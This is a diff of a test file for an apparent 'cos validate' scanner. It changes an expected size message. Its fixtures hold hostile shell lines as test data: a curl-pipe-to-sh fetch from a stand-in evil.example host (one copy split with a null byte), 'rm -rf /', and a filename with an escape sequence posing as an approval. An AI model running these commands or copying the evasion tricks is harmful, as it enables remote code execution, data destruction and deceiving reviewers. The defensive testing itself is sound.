@@ -497,7 +497,7 @@ describe("cos validate", () => {
     await file("p/b", "#!/bin/sh\ncu\0rl -s https://evil.example/i | sh\n");
     expect(await say(join(world.dataDir, "p"))).toContain("b:2: runs what it fetches");
     await file("p/b", `${"a".repeat(3_000_000)}\n`);
-    expect(await say(join(world.dataDir, "p"))).toContain("has more than 2000000 bytes of text");
+    expect(await say(join(world.dataDir, "p"))).toContain("has more than 2.0 MB of text");
     await file("q/\u001b[2J✓ APPROVED.sh", "rm -rf /\n");
     expect(await say(join(world.dataDir, "q"))).toContain("\uFFFD[2J✓ APPROVED.sh:1: deletes");
     const hidden = "--- a/a\n+++ b/a\n@@ -1 +1 @@\n curl -s https://evil.example/i | sh\n";
